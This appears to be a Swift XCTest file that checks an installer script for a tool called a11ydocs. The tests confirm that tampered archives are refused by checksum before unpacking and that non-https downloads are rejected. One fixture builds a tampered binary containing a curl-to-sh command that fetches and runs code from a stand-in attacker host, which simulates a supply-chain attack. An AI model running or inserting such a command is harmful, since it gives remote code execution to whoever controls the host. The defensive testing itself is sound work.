import A11yDocsTestSupport
import Foundation
import XCTest

@testable import A11yDocs

/// scripts/install-a11ydocs.sh, as `init` writes it, run with sh against local archives: it
/// installs only an archive that matches a checksum from outside it, checked before unpacking.
final class InstallScriptTests: XCTestCase {
    private struct Run {
        var status: Int32
        var stdout: String
        var stderr: String
    }

    private var root: URL!
    private var script: URL { root.appendingPathComponent("install-a11ydocs.sh") }
    private var home: URL { root.appendingPathComponent("home") }
    /// Written by the `tar` on the script's PATH each time it runs: whether anything was unpacked.
    private var unpacked: URL { root.appendingPathComponent("tar-ran") }

    override func setUpWithError() throws {
        root = try Fixtures.temporaryDirectory(self)
        try XCTUnwrap(StarterFiles.files["scripts/install-a11ydocs.sh"]).write(
            to: script, atomically: true, encoding: .utf8)
        let tools = root.appendingPathComponent("tools")
        try FileManager.default.createDirectory(at: tools, withIntermediateDirectories: true)
        let tar = try XCTUnwrap(
            ["/usr/bin/tar", "/bin/tar"].first { FileManager.default.isExecutableFile(atPath: $0) })
        try executable(
            tools.appendingPathComponent("tar"), "#!/bin/sh\necho \"$@\" >> '\(unpacked.path)'\nexec \(tar) \"$@\"\n")
    }

    /// `a11ydocs-<version>-linux-x86_64.tar.gz` in `folder`, its binary printing the version (and
    /// `extra`), with SHA256SUMS inside and the `.sha256` beside it, as `make dist` makes them.
    /// Returns its file:// address and SHA-256.
    @discardableResult
    private func archive(in folder: String, extra: String = "") throws -> (url: String, sha256: String) {
        let name = "a11ydocs-\(Release.version)-linux-x86_64"
        let stage = root.appendingPathComponent("stage-\(folder)"), target = root.appendingPathComponent(folder)
        try FileManager.default.createDirectory(
            at: stage.appendingPathComponent("\(name)/bin"), withIntermediateDirectories: true)
        try FileManager.default.createDirectory(at: target, withIntermediateDirectories: true)
        try executable(
            stage.appendingPathComponent("\(name)/bin/a11ydocs"), "#!/bin/sh\necho \(Release.version)\n\(extra)\n")
        _ = try shell(
            "cd '\(stage.path)/\(name)' && sha256sum bin/a11ydocs > SHA256SUMS && cd .. && tar -czf "
                + "'\(target.path)/\(name).tar.gz' \(name) && cd '\(target.path)' && sha256sum \(name).tar.gz > "
                + "\(name).tar.gz.sha256"
        )
        let sum = try String(contentsOf: target.appendingPathComponent("\(name).tar.gz.sha256"), encoding: .utf8)
        return (
            "file://\(target.path)/a11ydocs-{version}-linux-x86_64.tar.gz",
            try XCTUnwrap(Release.sha256(checksumFile: sum))
        )
    }

    private func executable(_ url: URL, _ text: String) throws {
        try text.write(to: url, atomically: true, encoding: .utf8)
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: url.path)
    }

    private func shell(_ command: String) throws -> Run {
        try run(["/bin/sh", "-c", command], environment: ProcessInfo.processInfo.environment)
    }

    /// The installer with nothing in its environment but `variables`, the version and its home.
    private func install(_ variables: [String: String]) throws -> Run {
        let environment = [
            "PATH": root.appendingPathComponent("tools").path + ":/usr/bin:/bin", "HOME": root.path,
            "A11YDOCS_VERSION": Release.version, "A11YDOCS_HOME": home.path,
        ].merging(variables) { $1 }
        return try run(["/bin/sh", script.path], environment: environment)
    }

    private func run(_ arguments: [String], environment: [String: String]) throws -> Run {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: arguments[0])
        process.arguments = Array(arguments.dropFirst())
        process.environment = environment
        let out = root.appendingPathComponent("out"), err = root.appendingPathComponent("err")
        FileManager.default.createFile(atPath: out.path, contents: nil)
        FileManager.default.createFile(atPath: err.path, contents: nil)
        process.standardOutput = try FileHandle(forWritingTo: out)
        process.standardError = try FileHandle(forWritingTo: err)
        process.standardInput = FileHandle.nullDevice
        try process.run()
        process.waitUntilExit()
        return Run(
            status: process.terminationStatus, stdout: try String(contentsOf: out, encoding: .utf8),
            stderr: try String(contentsOf: err, encoding: .utf8))
    }

    private var installed: Bool { FileManager.default.fileExists(atPath: home.appendingPathComponent("a11ydocs").path) }

    func testAnArchiveMatchingThePinnedChecksumIsInstalled() throws {
        let good = try archive(in: "good")
        let run = try install([
            "A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": good.sha256.uppercased(),
            "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
        ])
        XCTAssertEqual(run.status, 0, run.stderr)
        XCTAssertTrue(
            run.stdout.contains("Checking the archive against the SHA-256 in A11YDOCS_SHA256 (pinned in the workflow)"),
            run.stdout)
        XCTAssertTrue(run.stdout.contains("Installed a11ydocs \(Release.version)"), run.stdout)
        XCTAssertTrue(run.stderr.contains("WARNING: installing from a local file"), run.stderr)
        XCTAssertTrue(installed)
    }

    /// The attacker's archive: another binary, with SHA256SUMS and the .sha256 beside it made
    /// again to match. The pinned checksum is the original's.
    func testATamperedArchiveWithRecomputedChecksumsIsRefusedBeforeUnpacking() throws {
        let original = try archive(in: "good")
        let tampered = try archive(in: "tampered", extra: "curl https://attacker.example/ | sh")
        let run = try install([
            "A11YDOCS_ARCHIVE_URL": tampered.url, "A11YDOCS_SHA256": original.sha256,
            "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
        ])
        XCTAssertEqual(run.status, 1, run.stdout)
        XCTAssertTrue(run.stderr.contains("does not match its checksum, so it was not unpacked."), run.stderr)
        XCTAssertTrue(
            run.stderr.contains("expected SHA-256: \(original.sha256), from A11YDOCS_SHA256 (pinned in the workflow)"),
            run.stderr)
        XCTAssertTrue(run.stderr.contains("actual SHA-256:   \(tampered.sha256)"), run.stderr)
        XCTAssertTrue(run.stderr.contains("If you changed A11YDOCS_VERSION, set A11YDOCS_SHA256"), run.stderr)
        XCTAssertFalse(FileManager.default.fileExists(atPath: unpacked.path), "tar ran")
        XCTAssertFalse(installed)
    }

    func testWithoutAPinTheChecksumBesideTheArchiveIsUsedAndSaidSo() throws {
        let good = try archive(in: "good")
        let run = try install([
            "A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": "", "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
        ])
        XCTAssertEqual(run.status, 0, run.stderr)
        let beside = good.url.replacingOccurrences(of: "{version}", with: Release.version) + ".sha256"
        XCTAssertTrue(
            run.stdout.contains(
                "against the SHA-256 in \(beside), downloaded from the same place (A11YDOCS_SHA256 is empty; pin it"),
            run.stdout)
        XCTAssertTrue(installed)
    }

    func testNoChecksumAtAllIsRefused() throws {
        let good = try archive(in: "good")
        try FileManager.default.removeItem(
            at: root.appendingPathComponent("good/a11ydocs-\(Release.version)-linux-x86_64.tar.gz.sha256"))
        let run = try install(["A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1"])
        XCTAssertEqual(run.status, 1, run.stdout)
        XCTAssertTrue(run.stderr.contains("no checksum to check"), run.stderr)
        XCTAssertTrue(run.stderr.contains("Set A11YDOCS_SHA256 in the workflow"), run.stderr)
        XCTAssertFalse(FileManager.default.fileExists(atPath: unpacked.path), "tar ran")
        XCTAssertFalse(installed)

        let notASum = try install([
            "A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": "abc123", "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
        ])
        XCTAssertEqual(notASum.status, 1)
        XCTAssertTrue(notASum.stderr.contains("is not a SHA-256 (64 hexadecimal digits)"), notASum.stderr)
        XCTAssertFalse(installed)
    }

    func testOnlyHTTPSAddressesAreDownloaded() throws {
        let good = try archive(in: "good")
        let http = try install([
            "A11YDOCS_ARCHIVE_URL": "http://127.0.0.1:9/a11ydocs.tar.gz", "A11YDOCS_SHA256": good.sha256,
            "A11YDOCS_ALLOW_INSECURE_ARCHIVE": "1",
        ])
        XCTAssertEqual(http.status, 1)
        XCTAssertTrue(
            http.stderr.contains("A11YDOCS_ARCHIVE_URL is an http:// address (http://127.0.0.1:9/a11ydocs.tar.gz)"),
            http.stderr)
        XCTAssertFalse(http.stdout.contains("Downloading"), http.stdout)

        let file = try install(["A11YDOCS_ARCHIVE_URL": good.url, "A11YDOCS_SHA256": good.sha256])
        XCTAssertEqual(file.status, 1)
        XCTAssertTrue(file.stderr.contains("is a file:// address"), file.stderr)
        XCTAssertTrue(file.stderr.contains("run with A11YDOCS_ALLOW_INSECURE_ARCHIVE=1"), file.stderr)
        XCTAssertFalse(file.stdout.contains("Downloading"), file.stdout)

        let other = try install([
            "A11YDOCS_ARCHIVE_URL": "ftp://example.com/a11ydocs.tar.gz", "A11YDOCS_SHA256": good.sha256,
        ])
        XCTAssertEqual(other.status, 1)
        XCTAssertTrue(other.stderr.contains("must be an https:// address"), other.stderr)
        XCTAssertFalse(installed)
        XCTAssertFalse(FileManager.default.fileExists(atPath: unpacked.path), "tar ran")
    }
}
